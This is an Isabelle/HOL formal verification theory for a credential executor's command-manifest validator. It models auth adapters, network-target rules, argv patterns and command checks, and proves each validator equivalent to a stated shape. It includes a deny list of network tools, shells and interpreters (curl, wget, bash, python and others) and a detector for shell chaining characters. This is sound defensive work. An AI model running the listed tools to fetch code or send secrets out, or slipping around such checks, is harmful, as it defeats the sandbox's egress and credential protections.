(* ===== verification/CommandManifest.thy ===== *)
theory CommandManifest
  imports HumPrelude
begin

text \<open>
  Secure command manifests of the credential executor: the manifest and its denied binaries
  (\<open>credential-executor/src/commands/profiles.ts\<close>), the auth adapters (\<open>auth-adapters.ts\<close>), and the
  validation of manifests and of concrete commands (\<open>validator.ts\<close>).

  A manifest comes from JSON, so a field the validator tests for absence is an \<open>option\<close>. Every
  message of the validator is a constructor of \<open>manifestError\<close> that carries what the message shows. The
  regular expressions are written as the matchers they denote, with their order of alternatives.
\<close>

section \<open>Manifests\<close>

record argvPattern =
  apName :: "string option"
  apTokens :: "string list option"

record networkTarget =
  ntHostPattern :: "string option"
  ntPorts :: "int list option"
  ntProtocols :: "string list option"

record commandProfile =
  cfDescription :: "string option"
  cfAllowedArgvPatterns :: "argvPattern list option"
  cfDeniedSubcommands :: "string list option"
  cfDeniedFlags :: "string list option"
  cfAllowedNetworkTargets :: "networkTarget list option"

record adapterConfig =
  aaType :: string
  aaEnvVarName :: "string option"
  aaValuePrefix :: "string option"
  aaFileExtension :: "string option"
  aaFileMode :: "int option"
  aaHelperCommand :: "string option"
  aaTimeoutMs :: "int option"

record commandManifest =
  cmSchemaVersion :: string
  cmBundleDigest :: "string option"
  cmBundleId :: "string option"
  cmVersion :: "string option"
  cmEntrypoint :: "string option"
  cmCommandProfiles :: "(string \<times> commandProfile) list option"
  cmAuthAdapter :: "adapterConfig option"
  cmEgressMode :: "string option"
  cmCleanConfigDirs :: "(string \<times> string) list option"

definition MANIFEST_SCHEMA_VERSION :: string where
  "MANIFEST_SCHEMA_VERSION = ''1''"

definition EGRESS_MODES :: "string list" where
  "EGRESS_MODES = [''proxy_required'', ''no_network'']"

definition AUTH_ADAPTER_TYPES :: "string list" where
  "AUTH_ADAPTER_TYPES = [''env_var'', ''temp_file'', ''credential_process'']"

definition DENIED_BINARIES :: "string list" where
  "DENIED_BINARIES = [''curl'', ''wget'', ''http'', ''https'', ''httpie'', ''python'', ''python3'', ''python3.10'',
     ''python3.11'', ''python3.12'', ''python3.13'', ''python3.14'', ''node'', ''bun'', ''deno'', ''ruby'', ''perl'',
     ''lua'', ''php'', ''busybox'', ''toybox'', ''bash'', ''sh'', ''zsh'', ''fish'', ''dash'', ''ksh'', ''csh'', ''tcsh'',
     ''env'', ''xargs'', ''exec'', ''nohup'', ''strace'', ''ltrace'']"

text \<open>The text after the last slash.\<close>

definition pathBasename :: "string \<Rightarrow> string" where
  "pathBasename p = rev (takeWhile (\<lambda>c. c \<noteq> CHR ''/'') (rev p))"

definition isDeniedBinary :: "string \<Rightarrow> bool" where
  "isDeniedBinary p = (pathBasename p \<in> set DENIED_BINARIES)"

section \<open>Messages\<close>

datatype manifestError =
    UnsupportedSchema string | MissingBundleDigest | MissingBundleId | MissingVersion | MissingEntrypoint
  | DeniedEntrypoint string | DeniedBundleId string | MissingEgressMode | InvalidEgressMode string
  | MissingAuthAdapter | UnknownAdapterType string | MissingEnvVarName string | BadFileMode int
  | MissingHelperCommand | BadTimeout int | HelperMetacharacters | HelperDeniedBinary string
  | ConfigDirTraversal string | ConfigDirEmpty | NoProfiles
  | ProfileNoDescription string | ProfileNoPatterns string | ProfileNoDeniedList string | ProfileEmptySubcommand string
  | ProfileEmptyFlag string | ProfileFlagNoDash string string | ProfileNoTargets string | ProfileTargetsContradict string
  | TargetNoPattern string nat | TargetOverbroad string nat | TargetWildcard string nat | TargetEmptyDomain string nat
  | TargetBadPort string nat int | TargetBadProtocol string nat string
  | PatternNoName string | PatternNoTokens string | PatternOnlyRest string | PatternRestNotLast string nat
  | PatternDeniedBinary string string

text \<open>\<open>!s || s.trim().length === 0\<close> for a field that may be missing.\<close>

definition missing :: "string option \<Rightarrow> bool" where
  "missing x = (case x of None \<Rightarrow> True | Some s \<Rightarrow> blank s)"

definition complain :: "bool \<Rightarrow> 'e \<Rightarrow> 'e list" where
  "complain b e = (if b then [e] else [])"

section \<open>Auth adapters\<close>

text \<open>The file mode must be at most octal 600 (384) and have none of the low six bits.\<close>

definition validateAuthAdapterConfig :: "adapterConfig \<Rightarrow> manifestError list" where
  "validateAuthAdapterConfig c =
    (if aaType c \<notin> set AUTH_ADAPTER_TYPES then [UnknownAdapterType (aaType c)]
     else complain (missing (aaEnvVarName c)) (MissingEnvVarName (aaType c)) @
       (if aaType c = ''temp_file'' then
          (case aaFileMode c of None \<Rightarrow> [] | Some m \<Rightarrow> complain (m > 384 \<or> m mod 64 \<noteq> 0) (BadFileMode m))
        else if aaType c = ''credential_process'' then
          complain (missing (aaHelperCommand c)) MissingHelperCommand @
          (case aaTimeoutMs c of None \<Rightarrow> [] | Some t \<Rightarrow> complain (t \<le> 0) (BadTimeout t))
        else []))"

section \<open>Helper commands\<close>

text \<open>
  \<open>/;|&&|\|\||(?<!\|)\|(?!\|)|$\(|`|\n|\r/\<close>. The fourth alternative is a bar with no bar before
  or after it.
\<close>

fun loneBar :: "bool \<Rightarrow> string \<Rightarrow> bool" where
  "loneBar prev [] = False"
| "loneBar prev (c # s) =
     (if c = CHR ''|'' then (\<not> prev \<and> (s = [] \<or> hd s \<noteq> CHR ''|'')) \<or> loneBar True s else loneBar False s)"

definition containsShellMetacharacters :: "string \<Rightarrow> bool" where
  "containsShellMetacharacters s =
    (includesStr s '';'' \<or> includesStr s ''&&'' \<or> includesStr s ''||'' \<or> loneBar False s \<or>
     includesStr s ''$('' \<or> includesStr s [CHR 0x60] \<or> includesStr s [CHR 0x0A] \<or> includesStr s [CHR 0x0D])"

definition identStart :: "char \<Rightarrow> bool" where
  "identStart c = (c \<in> set ''ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_'')"

definition identChar :: "char \<Rightarrow> bool" where
  "identChar c = (identStart c \<or> c \<in> set ''0123456789'')"

text \<open>
  What can follow the value of an assignment: the remainders of the three alternatives, each in the
  order in which the matcher tries them, the longest repetition first.
\<close>

definition quotedRest :: "char \<Rightarrow> string \<Rightarrow> string list" where
  "quotedRest q s = (case s of [] \<Rightarrow> []
     | c # cs \<Rightarrow> if c = q then (case dropWhile (\<lambda>d. d \<noteq> q) cs of [] \<Rightarrow> [] | _ # r \<Rightarrow> [r]) else [])"

fun bareRests :: "string \<Rightarrow> string list" where
  "bareRests [] = [[]]"
| "bareRests [c] = (if \<not> is_ws c then [[]] else []) @ [[c]]"
| "bareRests (c # d # s) =
     (if c = CHR 0x5C \<and> d \<noteq> CHR 0x0A \<and> d \<noteq> CHR 0x0D then bareRests s else []) @
     (if \<not> is_ws c then bareRests (d # s) else []) @ [c # d # s]"

definition valueRests :: "string \<Rightarrow> string list" where
  "valueRests s = quotedRest CHR 0x27 s @ quotedRest CHR 0x22 s @ bareRests s"

text \<open>One match of \<open>ENV_ASSIGNMENT_RE\<close> at the start: the text after it.\<close>

definition stripAssignment :: "string \<Rightarrow> string option" where
  "stripAssignment s =
    (case s of [] \<Rightarrow> None
     | c # cs \<Rightarrow>
        if \<not> identStart c then None
        else (case dropWhile identChar cs of [] \<Rightarrow> None
          | e # v \<Rightarrow> if e \<noteq> CHR ''='' then None
              else map_option (dropWhile is_ws) (find (\<lambda>r. r \<noteq> [] \<and> is_ws (hd r)) (valueRests v))))"

lemma dropWhile_shorter: "dropWhile P xs = y # ys \<Longrightarrow> length ys < length xs"
  using length_dropWhile_le [of P xs] by simp

lemma length_quotedRest: "r \<in> set (quotedRest q s) \<Longrightarrow> length r \<le> length s"
proof (cases s)
  case (Cons c cs)
  assume r: "r \<in> set (quotedRest q s)"
  then have "c = q" unfolding quotedRest_def Cons by (cases "c = q") simp_all
  show ?thesis
  proof (cases "dropWhile (\<lambda>d. d \<noteq> q) cs")
    case Nil
    with r \<open>c = q\<close> show ?thesis by (simp add: Cons quotedRest_def)
  next
    case (Cons x r')
    with r \<open>c = q\<close> \<open>s = c # cs\<close> have "r = r'" by (simp add: quotedRest_def)
    then show ?thesis using dropWhile_shorter [OF Cons] \<open>s = c # cs\<close> by simp
  qed
qed (simp add: quotedRest_def)

lemma length_bareRests: "r \<in> set (bareRests s) \<Longrightarrow> length r \<le> length s"
  by (induction s rule: bareRests.induct) (auto split: if_splits)

lemma length_valueRests: "r \<in> set (valueRests s) \<Longrightarrow> length r \<le> length s"
  by (auto simp: valueRests_def dest: length_quotedRest length_bareRests)

lemma stripAssignment_shorter: "stripAssignment s = Some t \<Longrightarrow> length t < length s"
proof -
  assume "stripAssignment s = Some t"
  then obtain c cs e v r where s: "s = c # cs" "dropWhile identChar cs = e # v"
      "find (\<lambda>r. r \<noteq> [] \<and> is_ws (hd r)) (valueRests v) = Some r" "t = dropWhile is_ws r"
    by (auto simp: stripAssignment_def split: list.splits if_splits)
  from s(3) have "r \<in> set (valueRests v)" by (auto simp: find_Some_iff)
  then have "length r \<le> length v" by (rule length_valueRests)
  moreover have "length v < length cs" using s(2) by (rule dropWhile_shorter)
  moreover have "length t \<le> length r" unfolding s(4) by (rule length_dropWhile_le)
  ultimately show ?thesis using s(1) by simp
qed

function stripAssignments :: "string \<Rightarrow> string" where
  "stripAssignments s = (case stripAssignment s of None \<Rightarrow> s | Some t \<Rightarrow> stripAssignments t)"
  by pat_completeness auto
termination by (relation "measure length") (auto dest: stripAssignment_shorter)

declare stripAssignments.simps [simp del]

definition stripShellQuotes :: "string \<Rightarrow> string" where
  "stripShellQuotes t =
    (if 2 \<le> length t \<and> (startsWith t [CHR 0x27] \<and> endsWith t [CHR 0x27] \<or> startsWith t [CHR 0x22] \<and> endsWith t [CHR 0x22])
     then butlast (tl t) else t)"

definition extractShellBinary :: "string \<Rightarrow> string" where
  "extractShellBinary command = stripShellQuotes (hd (splitWs (stripAssignments (trim command))))"

section \<open>Manifest validation\<close>

definition OVERBROAD_HOST_PATTERNS :: "string list" where
  "OVERBROAD_HOST_PATTERNS = [''*'', ''*.*'', ''*.*.*'', ''*.*.*.*'']"

definition validateNetworkTarget :: "string \<Rightarrow> nat \<Rightarrow> networkTarget \<Rightarrow> manifestError list" where
  "validateNetworkTarget profile i t =
    (case ntHostPattern t of
       None \<Rightarrow> [TargetNoPattern profile i]
     | Some p \<Rightarrow>
        if blank p then [TargetNoPattern profile i]
        else if p \<in> set OVERBROAD_HOST_PATTERNS then [TargetOverbroad profile i]
        else
          (if includesStr p ''*'' then
             (if \<not> startsWith p ''*.'' \<or> includesStr (drop 1 p) ''*'' then [TargetWildcard profile i]
              else complain (blank (drop 2 p)) (TargetEmptyDomain profile i))
           else []) @
          map (TargetBadPort profile i) (filter (\<lambda>n. n < 1 \<or> n > 65535) (orDefault (ntPorts t) [])) @
          map (TargetBadProtocol profile i) (filter (\<lambda>q. q \<noteq> ''http'' \<and> q \<noteq> ''https'') (orDefault (ntProtocols t) [])))"

definition isPlaceholder :: "string \<Rightarrow> bool" where
  "isPlaceholder t = (startsWith t ''<'' \<and> endsWith t ''>'' \<and> \<not> endsWith t ''...>'')"

definition isRestPlaceholder :: "string \<Rightarrow> bool" where
  "isRestPlaceholder t = (startsWith t ''<'' \<and> endsWith t ''...>'')"

definition validateArgvPattern :: "string \<Rightarrow> argvPattern \<Rightarrow> manifestError list" where
  "validateArgvPattern profile p =
    complain (missing (apName p)) (PatternNoName profile) @
    (case orDefault (apTokens p) [] of
       [] \<Rightarrow> [PatternNoTokens profile]
     | first # rest \<Rightarrow>
        complain (rest = [] \<and> isRestPlaceholder first) (PatternOnlyRest profile) @
        map (PatternRestNotLast profile)
          (filter (\<lambda>i. isRestPlaceholder ((first # rest) ! i)) [0..<length rest]) @
        complain (first \<noteq> [] \<and> \<not> isPlaceholder first \<and> \<not> isRestPlaceholder first \<and> isDeniedBinary first)
          (PatternDeniedBinary profile first))"

definition validateProfile :: "string option \<Rightarrow> string \<times> commandProfile \<Rightarrow> manifestError list" where
  "validateProfile egressMode np =
    (case np of (name, p) \<Rightarrow>
      complain (missing (cfDescription p)) (ProfileNoDescription name) @
      (case orDefault (cfAllowedArgvPatterns p) [] of
         [] \<Rightarrow> [ProfileNoPatterns name]
       | ps \<Rightarrow> concat (map (validateArgvPattern name) ps)) @
      (case cfDeniedSubcommands p of
         None \<Rightarrow> [ProfileNoDeniedList name]
       | Some subs \<Rightarrow> map (\<lambda>_. ProfileEmptySubcommand name) (filter blank subs)) @
      concat (map (\<lambda>f. complain (blank f) (ProfileEmptyFlag name) @
        complain (f \<noteq> [] \<and> \<not> startsWith f ''-'') (ProfileFlagNoDash name f)) (orDefault (cfDeniedFlags p) [])) @
      (if egressMode = Some ''proxy_required'' then
         (case orDefault (cfAllowedNetworkTargets p) [] of
            [] \<Rightarrow> [ProfileNoTargets name]
          | ts \<Rightarrow> concat (map (\<lambda>(i, t). validateNetworkTarget name i t) (enumerate 0 ts)))
       else []) @
      complain (egressMode = Some ''no_network'' \<and> orDefault (cfAllowedNetworkTargets p) [] \<noteq> [])
        (ProfileTargetsContradict name))"

definition validateHelper :: "adapterConfig \<Rightarrow> manifestError list" where
  "validateHelper a =
    (if aaType a = ''credential_process'' \<and> \<not> missing (aaHelperCommand a) then
       (let helper = orDefault (aaHelperCommand a) [] in
        complain (containsShellMetacharacters helper) HelperMetacharacters @
        complain (isDeniedBinary (extractShellBinary helper))
          (HelperDeniedBinary (pathBasename (extractShellBinary helper))))
     else [])"

definition validateManifest :: "commandManifest \<Rightarrow> manifestError list" where
  "validateManifest m =
    complain (cmSchemaVersion m \<noteq> MANIFEST_SCHEMA_VERSION) (UnsupportedSchema (cmSchemaVersion m)) @
    complain (missing (cmBundleDigest m)) MissingBundleDigest @
    complain (missing (cmBundleId m)) MissingBundleId @
    complain (missing (cmVersion m)) MissingVersion @
    complain (missing (cmEntrypoint m)) MissingEntrypoint @
    (case cmEntrypoint m of None \<Rightarrow> [] | Some e \<Rightarrow> complain (e \<noteq> [] \<and> isDeniedBinary e) (DeniedEntrypoint e)) @
    (case cmBundleId m of None \<Rightarrow> [] | Some b \<Rightarrow> complain (b \<noteq> [] \<and> isDeniedBinary b) (DeniedBundleId b)) @
    (if truthy (cmEgressMode m)
     then complain (the (cmEgressMode m) \<notin> set EGRESS_MODES) (InvalidEgressMode (the (cmEgressMode m)))
     else [MissingEgressMode]) @
    (case cmAuthAdapter m of None \<Rightarrow> [MissingAuthAdapter]
     | Some a \<Rightarrow> validateAuthAdapterConfig a @ validateHelper a) @
    concat (map (\<lambda>(k, _). complain (includesStr k ''..'') (ConfigDirTraversal k) @ complain (trim k = []) ConfigDirEmpty)
      (orDefault (cmCleanConfigDirs m) [])) @
    (case orDefault (cmCommandProfiles m) [] of
       [] \<Rightarrow> [NoProfiles]
     | ps \<Rightarrow> concat (map (validateProfile (cmEgressMode m)) ps))"

section \<open>Command validation\<close>

text \<open>The loop over the tokens of a pattern, at position \<open>i\<close>.\<close>

fun matchTokens :: "string list \<Rightarrow> nat \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> bool" where
  "matchTokens argv n [] i = (length argv = n)"
| "matchTokens argv n (token # tokens) i =
     (if isRestPlaceholder token then i < length argv
      else if length argv \<le> i then False
      else if isPlaceholder token then matchTokens argv n tokens (Suc i)
      else if argv ! i \<noteq> token then False
      else matchTokens argv n tokens (Suc i))"

definition matchesArgvPattern :: "string list \<Rightarrow> argvPattern \<Rightarrow> bool" where
  "matchesArgvPattern argv p = matchTokens argv (length (orDefault (apTokens p) [])) (orDefault (apTokens p) []) 0"

datatype commandReason = EmptyArgv | DeniedSubcommand string | DeniedFlag string | DeniedFlagVia string string | NoPatternMatches

text \<open>Allowed with the profile and pattern that matched, or the reason for the rejection.\<close>

type_synonym commandVerdict = "commandReason + string \<times> string option"

definition profilesOf :: "commandManifest \<Rightarrow> (string \<times> commandProfile) list" where
  "profilesOf m = orDefault (cmCommandProfiles m) []"

definition allDeniedSubcommands :: "commandManifest \<Rightarrow> string list" where
  "allDeniedSubcommands m = concat (map (\<lambda>(_, p). orDefault (cfDeniedSubcommands p) []) (profilesOf m))"

definition allDeniedFlags :: "commandManifest \<Rightarrow> string list" where
  "allDeniedFlags m = concat (map (\<lambda>(_, p). orDefault (cfDeniedFlags p) []) (profilesOf m))"

definition subcommandMatches :: "string list \<Rightarrow> string \<Rightarrow> bool" where
  "subcommandMatches argv denied =
    (length (splitWs denied) \<le> length argv \<and> take (length (splitWs denied)) argv = splitWs denied)"

definition flagPrefix :: "string \<Rightarrow> string" where
  "flagPrefix arg = takeWhile (\<lambda>c. c \<noteq> CHR ''='') arg"

fun checkFlags :: "string list \<Rightarrow> string list \<Rightarrow> commandReason option" where
  "checkFlags denied [] = None"
| "checkFlags denied (arg # args) =
     (if arg \<in> set denied then Some (DeniedFlag arg)
      else if startsWith arg ''-'' \<and> includesStr arg ''='' \<and> flagPrefix arg \<in> set denied
      then Some (DeniedFlagVia (flagPrefix arg) arg)
      else checkFlags denied args)"

definition firstMatch :: "string list \<Rightarrow> (string \<times> commandProfile) list \<Rightarrow> (string \<times> string option) option" where
  "firstMatch argv ps =
    (case concat (map (\<lambda>(name, p). map (\<lambda>pat. (name, apName pat))
        (filter (matchesArgvPattern argv) (orDefault (cfAllowedArgvPatterns p) []))) ps) of
       [] \<Rightarrow> None | hit # _ \<Rightarrow> Some hit)"

definition validateCommand :: "commandManifest \<Rightarrow> string list \<Rightarrow> commandVerdict" where
  "validateCommand m argv =
    (if argv = [] then Inl EmptyArgv
     else (case find (subcommandMatches argv) (allDeniedSubcommands m) of
         Some denied \<Rightarrow> Inl (DeniedSubcommand denied)
       | None \<Rightarrow>
          (case checkFlags (allDeniedFlags m) argv of
             Some reason \<Rightarrow> Inl reason
           | None \<Rightarrow>
              (case firstMatch argv (profilesOf m) of
                 Some hit \<Rightarrow> Inr hit
               | None \<Rightarrow> Inl NoPatternMatches))))"

section \<open>What a valid manifest promises\<close>

lemma complain_Nil [simp]: "complain b e = [] \<longleftrightarrow> \<not> b"
  by (simp add: complain_def)

lemma complain_empty_iff [simp]: "[] = complain b e \<longleftrightarrow> \<not> b"
  by (simp add: complain_def)

definition present :: "string option \<Rightarrow> bool" where
  "present x = (\<exists>s. x = Some s \<and> \<not> blank s)"

lemma missing_present: "missing x \<longleftrightarrow> \<not> present x"
  by (cases x) (simp_all add: missing_def present_def)

text \<open>The shape of a pattern, a target, a profile and an adapter, stated without the validator.\<close>

definition patternOk :: "argvPattern \<Rightarrow> bool" where
  "patternOk p = (present (apName p) \<and> (\<exists>tokens. apTokens p = Some tokens \<and> tokens \<noteq> [] \<and>
     (\<forall>t \<in> set (butlast tokens). \<not> isRestPlaceholder t) \<and>
     \<not> (length tokens = 1 \<and> isRestPlaceholder (hd tokens)) \<and>
     (isPlaceholder (hd tokens) \<or> isRestPlaceholder (hd tokens) \<or> \<not> isDeniedBinary (hd tokens))))"

definition targetOk :: "networkTarget \<Rightarrow> bool" where
  "targetOk t = (\<exists>p. ntHostPattern t = Some p \<and> \<not> blank p \<and> p \<notin> set OVERBROAD_HOST_PATTERNS \<and>
     (CHR ''*'' \<in> set p \<longrightarrow> (\<exists>d. p = ''*.'' @ d \<and> CHR ''*'' \<notin> set d \<and> \<not> blank d)) \<and>
     (\<forall>n \<in> set (orDefault (ntPorts t) []). 1 \<le> n \<and> n \<le> 65535) \<and>
     (\<forall>q \<in> set (orDefault (ntProtocols t) []). q = ''http'' \<or> q = ''https''))"

definition profileOk :: "string option \<Rightarrow> commandProfile \<Rightarrow> bool" where
  "profileOk egressMode p = (present (cfDescription p) \<and>
     (\<exists>ps. cfAllowedArgvPatterns p = Some ps \<and> ps \<noteq> [] \<and> (\<forall>pat \<in> set ps. patternOk pat)) \<and>
     (\<exists>subs. cfDeniedSubcommands p = Some subs \<and> (\<forall>s \<in> set subs. \<not> blank s)) \<and>
     (\<forall>f \<in> set (orDefault (cfDeniedFlags p) []). \<not> blank f \<and> startsWith f ''-'') \<and>
     (egressMode = Some ''proxy_required'' \<longrightarrow>
        (\<exists>ts. cfAllowedNetworkTargets p = Some ts \<and> ts \<noteq> [] \<and> (\<forall>t \<in> set ts. targetOk t))) \<and>
     (egressMode = Some ''no_network'' \<longrightarrow> orDefault (cfAllowedNetworkTargets p) [] = []))"

definition adapterOk :: "adapterConfig \<Rightarrow> bool" where
  "adapterOk a = (aaType a \<in> set AUTH_ADAPTER_TYPES \<and> present (aaEnvVarName a) \<and>
     (aaType a = ''temp_file'' \<longrightarrow> (\<forall>m. aaFileMode a = Some m \<longrightarrow> m \<le> 384 \<and> m mod 64 = 0)) \<and>
     (aaType a = ''credential_process'' \<longrightarrow> (\<forall>t. aaTimeoutMs a = Some t \<longrightarrow> 0 < t) \<and>
        (\<exists>h. aaHelperCommand a = Some h \<and> \<not> blank h \<and> \<not> containsShellMetacharacters h \<and>
           \<not> isDeniedBinary (extractShellBinary h))))"

lemma orDefault_Nil: "orDefault x [] = [] \<longleftrightarrow> x = None \<or> x = Some []"
  by (cases x) simp_all

lemma validateArgvPattern_ok: "validateArgvPattern n p = [] \<longleftrightarrow> patternOk p"
proof (cases "orDefault (apTokens p) []")
  case Nil
  then show ?thesis by (auto simp: validateArgvPattern_def patternOk_def orDefault_Nil)
next
  case (Cons first rest)
  then have tokens: "apTokens p = Some (first # rest)" by (cases "apTokens p") simp_all
  have "(\<forall>i < length rest. \<not> isRestPlaceholder ((first # rest) ! i)) \<longleftrightarrow>
      (\<forall>t \<in> set (butlast (first # rest)). \<not> isRestPlaceholder t)"
    by (simp add: all_set_conv_all_nth nth_butlast del: butlast.simps)
  moreover have "\<not> isDeniedBinary []"
    by (simp add: isDeniedBinary_def pathBasename_def DENIED_BINARIES_def)
  ultimately show ?thesis
    by (auto simp: validateArgvPattern_def patternOk_def tokens missing_present filter_empty_conv
        simp del: butlast.simps)
qed

lemma includesStr_char: "includesStr s [c] \<longleftrightarrow> c \<in> set s"
  by (induction s) (auto simp: startsWith_def)

lemma validateNetworkTarget_ok: "validateNetworkTarget n i t = [] \<longleftrightarrow> targetOk t"
proof (cases "ntHostPattern t")
  case (Some p)
  have star: "CHR ''*'' \<in> set p \<and> (\<not> startsWith p ''*.'' \<or> includesStr (drop 1 p) ''*'' \<or> blank (drop 2 p)) \<longleftrightarrow>
      \<not> (CHR ''*'' \<in> set p \<longrightarrow> (\<exists>d. p = ''*.'' @ d \<and> CHR ''*'' \<notin> set d \<and> \<not> blank d))"
    by (auto simp: startsWith_iff includesStr_char)
  have ports: "filter (\<lambda>n. n < 1 \<or> n > 65535) (orDefault (ntPorts t) []) = [] \<longleftrightarrow>
      (\<forall>n \<in> set (orDefault (ntPorts t) []). 1 \<le> n \<and> n \<le> 65535)"
    by (auto simp: filter_empty_conv)
  have protocols: "filter (\<lambda>q. q \<noteq> ''http'' \<and> q \<noteq> ''https'') (orDefault (ntProtocols t) []) = [] \<longleftrightarrow>
      (\<forall>q \<in> set (orDefault (ntProtocols t) []). q = ''http'' \<or> q = ''https'')"
    by (auto simp: filter_empty_conv)
  have "validateNetworkTarget n i t = [] \<longleftrightarrow> \<not> blank p \<and> p \<notin> set OVERBROAD_HOST_PATTERNS \<and>
      \<not> (CHR ''*'' \<in> set p \<and> (\<not> startsWith p ''*.'' \<or> includesStr (drop 1 p) ''*'' \<or> blank (drop 2 p))) \<and>
      filter (\<lambda>n. n < 1 \<or> n > 65535) (orDefault (ntPorts t) []) = [] \<and>
      filter (\<lambda>q. q \<noteq> ''http'' \<and> q \<noteq> ''https'') (orDefault (ntProtocols t) []) = []"
    using Some by (auto simp: validateNetworkTarget_def includesStr_char)
  moreover have "targetOk t \<longleftrightarrow> \<not> blank p \<and> p \<notin> set OVERBROAD_HOST_PATTERNS \<and>
      (CHR ''*'' \<in> set p \<longrightarrow> (\<exists>d. p = ''*.'' @ d \<and> CHR ''*'' \<notin> set d \<and> \<not> blank d)) \<and>
      (\<forall>n \<in> set (orDefault (ntPorts t) []). 1 \<le> n \<and> n \<le> 65535) \<and>
      (\<forall>q \<in> set (orDefault (ntProtocols t) []). q = ''http'' \<or> q = ''https'')"
    by (simp add: targetOk_def Some)
  ultimately show ?thesis by (simp only: star ports protocols not_not)
qed (simp add: validateNetworkTarget_def targetOk_def)

lemma enumerate_targets:
  "concat (map (\<lambda>(i, t). validateNetworkTarget n i t) (enumerate k ts)) = [] \<longleftrightarrow> (\<forall>t \<in> set ts. targetOk t)"
  by (induction ts arbitrary: k) (simp_all add: validateNetworkTarget_ok)

lemma validateProfile_ok: "validateProfile egress (n, p) = [] \<longleftrightarrow> profileOk egress p"
proof -
  have patterns: "(case orDefault (cfAllowedArgvPatterns p) [] of [] \<Rightarrow> [ProfileNoPatterns n]
       | ps \<Rightarrow> concat (map (validateArgvPattern n) ps)) = [] \<longleftrightarrow>
      (\<exists>ps. cfAllowedArgvPatterns p = Some ps \<and> ps \<noteq> [] \<and> (\<forall>pat \<in> set ps. patternOk pat))"
    by (cases "cfAllowedArgvPatterns p") (auto simp: validateArgvPattern_ok split: list.split)
  have subs: "(case cfDeniedSubcommands p of None \<Rightarrow> [ProfileNoDeniedList n]
       | Some subs \<Rightarrow> map (\<lambda>_. ProfileEmptySubcommand n) (filter blank subs)) = [] \<longleftrightarrow>
      (\<exists>subs. cfDeniedSubcommands p = Some subs \<and> (\<forall>s \<in> set subs. \<not> blank s))"
    by (auto simp: filter_empty_conv split: option.split)
  have blank: "blank []" by (simp add: blank_def)
  then have flags: "concat (map (\<lambda>f. complain (blank f) (ProfileEmptyFlag n) @
        complain (f \<noteq> [] \<and> \<not> startsWith f ''-'') (ProfileFlagNoDash n f)) (orDefault (cfDeniedFlags p) [])) = [] \<longleftrightarrow>
      (\<forall>f \<in> set (orDefault (cfDeniedFlags p) []). \<not> blank f \<and> startsWith f ''-'')"
    by (induction "orDefault (cfDeniedFlags p) []") auto
  have targets: "(case orDefault (cfAllowedNetworkTargets p) [] of [] \<Rightarrow> [ProfileNoTargets n]
       | ts \<Rightarrow> concat (map (\<lambda>(i, t). validateNetworkTarget n i t) (enumerate 0 ts))) = [] \<longleftrightarrow>
      (\<exists>ts. cfAllowedNetworkTargets p = Some ts \<and> ts \<noteq> [] \<and> (\<forall>t \<in> set ts. targetOk t))"
    using enumerate_targets [of n 0]
    by (cases "cfAllowedNetworkTargets p") (auto split: list.split simp del: concat_eq_Nil_conv enumerate_simps)
  show ?thesis
    unfolding validateProfile_def profileOk_def prod.case append_is_Nil_conv patterns subs flags missing_present complain_Nil
    by (auto simp: targets simp del: concat_eq_Nil_conv)
qed

lemma validateAdapter_ok:
  "validateAuthAdapterConfig a @ validateHelper a = [] \<longleftrightarrow> adapterOk a"
  by (cases "aaFileMode a"; cases "aaTimeoutMs a"; cases "aaHelperCommand a")
    (auto simp: validateAuthAdapterConfig_def validateHelper_def adapterOk_def missing_present present_def Let_def
      AUTH_ADAPTER_TYPES_def)

section \<open>The language of a pattern\<close>

definition tokenFits :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "tokenFits token arg = (isPlaceholder token \<or> token = arg)"

text \<open>Literals match themselves, a placeholder one argument, a last rest placeholder at least one more.\<close>

definition inPattern :: "string list \<Rightarrow> string list \<Rightarrow> bool" where
  "inPattern tokens argv =
    (if tokens \<noteq> [] \<and> isRestPlaceholder (last tokens)
     then length tokens \<le> length argv \<and> list_all2 tokenFits (butlast tokens) (take (length tokens - 1) argv)
     else list_all2 tokenFits tokens argv)"

lemma matchTokens_plain:
  assumes "\<forall>t \<in> set tokens. \<not> isRestPlaceholder t" "i \<le> length argv" "n = i + length tokens"
  shows "matchTokens argv n tokens i \<longleftrightarrow> list_all2 tokenFits tokens (drop i argv)"
  using assms
proof (induction tokens arbitrary: i)
  case (Cons t tokens)
  show ?case
  proof (cases "i < length argv")
    case True
    then have "drop i argv = argv ! i # drop (Suc i) argv" by (simp add: Cons_nth_drop_Suc)
    then show ?thesis using Cons True by (auto simp: tokenFits_def)
  qed (use Cons.prems in auto)
qed auto

lemma matchTokens_rest:
  assumes "\<forall>t \<in> set tokens. \<not> isRestPlaceholder t" "isRestPlaceholder r" "i \<le> length argv"
  shows "matchTokens argv n (tokens @ [r]) i \<longleftrightarrow>
    i + length tokens < length argv \<and> list_all2 tokenFits tokens (take (length tokens) (drop i argv))"
  using assms
proof (induction tokens arbitrary: i)
  case (Cons t tokens)
  show ?case
  proof (cases "i < length argv")
    case True
    then have "drop i argv = argv ! i # drop (Suc i) argv" by (simp add: Cons_nth_drop_Suc)
    then show ?thesis using Cons True by (auto simp: tokenFits_def)
  qed (use Cons.prems in auto)
qed auto

lemma matches_inPattern:
  assumes "\<forall>t \<in> set (butlast tokens). \<not> isRestPlaceholder t" "apTokens p = Some tokens"
  shows "matchesArgvPattern argv p \<longleftrightarrow> inPattern tokens argv"
proof (cases tokens rule: rev_cases)
  case Nil
  with assms show ?thesis by (simp add: matchesArgvPattern_def inPattern_def)
next
  case (snoc ts r)
  show ?thesis
  proof (cases "isRestPlaceholder r")
    case True
    with assms snoc show ?thesis
      by (auto simp: matchesArgvPattern_def inPattern_def matchTokens_rest)
  next
    case False
    then have "\<forall>t \<in> set tokens. \<not> isRestPlaceholder t" using assms(1) snoc by auto
    with assms snoc False show ?thesis
      by (simp add: matchesArgvPattern_def inPattern_def matchTokens_plain)
  qed
qed

section \<open>What an allowed command satisfies\<close>

lemma subcommandMatches_prefix: "subcommandMatches argv d \<longleftrightarrow> prefix (splitWs d) argv"
  by (auto simp: subcommandMatches_def prefix_def) (metis append_take_drop_id)

definition flagDenied :: "string list \<Rightarrow> string \<Rightarrow> bool" where
  "flagDenied flags arg =
    (arg \<in> set flags \<or> startsWith arg ''-'' \<and> CHR ''='' \<in> set arg \<and> flagPrefix arg \<in> set flags)"

